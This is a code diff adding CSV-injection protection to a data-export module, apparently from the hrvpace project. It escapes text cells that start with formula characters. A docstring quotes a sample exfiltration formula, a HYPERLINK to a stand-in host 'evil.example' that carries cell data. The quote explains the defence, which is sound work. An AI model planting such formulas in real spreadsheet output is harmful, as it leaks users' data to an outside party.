@@ -18,6 +18,7 @@ from typing import Any
 __all__ = [
     "BEAT_UNITS",
     "DESCRIPTIONS",
+    "FORMULA_STARTS",
     "NO_CONTACT_UNITS",
     "UNITLESS",
     "arrow_null_type",
@@ -25,6 +26,7 @@ __all__ = [
     "csv_cell",
     "csv_header",
     "csv_text",
+    "spreadsheet_safe",
     "unit_of",
     "units_of",
 ]
@@ -162,12 +164,27 @@ def contact_code(contact: bool | int | None) -> int:
     return -1 if contact is None else int(bool(contact))
 
 
+#: How a cell a spreadsheet would take for a formula starts (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """``text`` with a ``'`` put before it if it starts as a formula would.
+
+    A CSV cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a CR is run as a formula by
+    Excel and LibreOffice (``=HYPERLINK("http://evil.example/?d="&A2)`` sends the sheet's
+    data away); the leading ``'`` makes it text, as OWASP's CSV injection guidance advises.
+    For text cells only: numbers are written as they are (``-1.5`` stays a number).
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def csv_cell(value: Any) -> str:
     """One CSV cell, the same in every CSV hrvpace writes.
 
     Missing (``None``, NaN): empty; a bool: ``1``/``0``; a float: ``repr`` (reads back
-    exactly); a dict or list: compact JSON; anything else: ``str``. numpy scalars as their
-    Python value.
+    exactly); an int: ``str``; a dict or list: compact JSON; anything else (text, a path): its
+    ``str`` through :func:`spreadsheet_safe`. numpy scalars as their Python value.
     """
     if hasattr(value, "item") and not isinstance(value, dict | list | str):
         value = value.item()
@@ -179,7 +196,9 @@ def csv_cell(value: Any) -> str:
         return "" if value != value else repr(value)
     if isinstance(value, dict | list):
         return json.dumps(value, separators=(",", ":"))
-    return str(value)
+    if isinstance(value, int):
+        return str(value)
+    return spreadsheet_safe(str(value))
 
 
 def csv_text(names: Sequence[str], units: dict[str, str], rows: Iterable[Sequence[Any]]) -> str:
